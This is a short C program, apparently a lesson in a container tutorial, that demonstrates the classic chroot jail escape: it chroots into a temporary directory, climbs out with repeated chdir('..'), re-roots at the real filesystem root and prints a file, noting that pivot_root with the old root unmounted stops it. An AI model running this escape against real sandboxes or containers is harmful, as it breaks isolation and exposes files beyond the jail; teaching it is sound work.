/*
 * breakout — walks out of a chroot jail, the classic way (step08's lesson).
 *
 *   breakout [FILE]    FILE: what to read once out (default /etc/hostname)
 *
 * chroot(2) changes one thing: where "/" starts for this process's path
 * lookups. It does not move the current directory, and the kernel stops
 * a ".." only at the process's root. So a process allowed to call chroot
 * (CAP_SYS_CHROOT, which root inside a container has):
 *   1. makes a directory and chroots into it, while its current directory
 *      stays where it was: now *outside* its root;
 *   2. goes up with chdir("..") as often as it likes: no ".." meets the
 *      root on the way, until the real "/" of the mount namespace, where
 *      ".." is "." again;
 *   3. chroots to "." there: it sees the whole tree again.
 * After pivot_root and the old root unmounted there is no whole tree to
 * go back to: the walk up ends at the rootfs, and FILE is not there.
 *
 * Static (make breakout), so it runs in any root filesystem.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what)
{
	fprintf(stderr, "breakout: %s: %s\n", what, strerror(errno));
	return 2;
}

int main(int argc, char **argv)
{
	const char *file = argc > 1 ? argv[1] : "/etc/hostname";
	char jail[] = "/tmp/breakout.XXXXXX", buf[4096];
	ssize_t n;
	int fd;

	if (chdir("/tmp") < 0)
		return fail("chdir(\"/tmp\")");
	if (!mkdtemp(jail))
		return fail("mkdtemp(\"/tmp/breakout.XXXXXX\")");
	/* 1: root moves into the jail, the current directory stays in /tmp. */
	if (chroot(jail) < 0)
		return fail("chroot(jail)");
	/* 2: up and up; at the real "/" of the namespace, ".." stays there. */
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			return fail("chdir(\"..\")");
	/* 3: make that the root. */
	if (chroot(".") < 0)
		return fail("chroot(\".\")");
	fd = open(file, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		fprintf(stderr, "breakout: still inside: %s: %s\n", file, strerror(errno));
		return 1;
	}
	printf("breakout: out: %s says: ", file);
	fflush(stdout);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		if (write(STDOUT_FILENO, buf, (size_t)n) != n)
			return fail("write");
	if (n < 0)
		return fail("read");
	close(fd);
	return 0;
}
